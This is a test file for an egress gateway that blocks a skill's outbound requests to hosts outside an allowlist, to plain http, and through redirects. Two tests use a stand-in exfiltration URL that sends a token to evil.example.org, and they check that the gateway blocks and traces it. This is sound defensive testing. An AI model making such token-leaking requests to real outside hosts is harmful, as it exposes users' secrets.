import { beforeAll, describe, expect, it } from "vitest";
import { type Admin, bootstrap } from "../support/api.ts";
import { standin } from "../support/standin.ts";
import { installed, trust } from "./support/api-skills.ts";
import { FETCHER_BUNDLE, fetcherManifest } from "./support/fetcher-skill.ts";
import { testKey } from "./support/keys.ts";
import { executionOf, runCommand, traceOf } from "./support/run-skill.ts";

let admin: Admin;

beforeAll(async () => {
  admin = await bootstrap("skills-egress");
  const acme = await testKey(1, "acme");
  expect((await trust(admin, acme.trusted)).status).toBe(201);
  await installed(admin.key, await fetcherManifest(acme, ["api.example.com"]), FETCHER_BUNDLE);
});

async function egressOf(traceId: string) {
  const trace = await traceOf(admin, traceId);
  expect(trace.valid).toBe(true);
  return trace.events.filter((e) => e.type === "controlPlane.skill.egress");
}

describe("the egress gateway", () => {
  it("blocks a host outside the allowlist, traces it, and nothing leaves the Worker", async () => {
    await standin.reset();
    const submitted = await runCommand(admin, 'run acme/fetcher/get url="https://evil.example.org/steal?token=s3cret"');
    const view = await executionOf(admin, submitted.executionId);
    expect(view.steps[0]?.state).toBe("succeeded");

    const egress = await egressOf(submitted.traceId);
    expect(egress).toHaveLength(1);
    expect(egress[0]).toMatchObject({ stepId: expect.any(String), capabilitySource: "acme/fetcher@1.0.0", actor: { type: "tool", id: "acme/fetcher@1.0.0" } });
    expect(egress[0]?.payload).toMatchObject({ skill: "acme/fetcher", host: "evil.example.org", path: "/steal", decision: "blocked", status: null });
    expect(JSON.stringify(egress[0]?.payload)).not.toContain("s3cret");
    expect((await standin.requests()).filter((r) => r.host === "evil.example.org")).toEqual([]);
  });

  it("blocks plain http even to an allowed host", async () => {
    await standin.reset();
    const submitted = await runCommand(admin, 'run acme/fetcher/get url="http://api.example.com/data"');
    const egress = await egressOf(submitted.traceId);
    expect(egress.map((e) => e.payload?.decision)).toEqual(["blocked"]);
    expect((await standin.requests()).filter((r) => r.host === "api.example.com")).toEqual([]);
  });

  it("forwards an allowed host and traces the upstream status", async () => {
    await standin.reset();
    await standin.script([{ match: "api.example.com/data", status: 200, body: { ok: true } }]);
    const submitted = await runCommand(admin, 'run acme/fetcher/get url="https://api.example.com/data"');
    expect((await executionOf(admin, submitted.executionId)).steps[0]?.state).toBe("succeeded");
    const egress = await egressOf(submitted.traceId);
    expect(egress.map((e) => e.payload)).toMatchObject([{ host: "api.example.com", decision: "allowed", status: 200 }]);
    const reached = (await standin.requests()).filter((r) => r.host === "api.example.com");
    expect(reached).toHaveLength(1);
    expect(reached[0]?.headers["x-probe"]).toBe("skill");
  });

  it("does not follow a redirect from an allowed host to an unlisted one: the skill gets the 3xx, its next hop is blocked", async () => {
    await standin.reset();
    await standin.script([{ match: "api.example.com/hop", status: 302, headers: { location: "https://evil.example.org/steal" }, body: "" }]);
    const submitted = await runCommand(admin, 'run acme/fetcher/get url="https://api.example.com/hop"');
    expect((await executionOf(admin, submitted.executionId)).steps[0]?.state).toBe("succeeded");
    const egress = await egressOf(submitted.traceId);
    expect(egress.map((e) => e.payload)).toMatchObject([
      { host: "api.example.com", path: "/hop", decision: "allowed", status: 302 },
      { host: "evil.example.org", path: "/steal", decision: "blocked", status: null },
    ]);
    expect((await standin.requests()).map((r) => r.host)).toEqual(["api.example.com"]);
  });
});
